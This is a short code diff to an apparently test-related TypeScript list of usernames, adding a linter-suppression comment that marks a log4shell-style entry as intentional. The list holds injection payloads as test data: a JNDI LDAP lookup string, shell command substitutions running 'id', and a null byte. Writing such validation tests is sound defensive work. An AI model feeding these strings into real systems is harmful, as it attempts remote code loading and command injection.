@@ -137,6 +137,7 @@ const USERNAMES: string[] = [
   "mario.rossi_vm1_",
   "%00",
   "mario.rossi%5f_vm1",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style name, on purpose
   "${jndi:ldap://x}_vm1",
   "$(id)_vm1",
   "`id`_vm1",
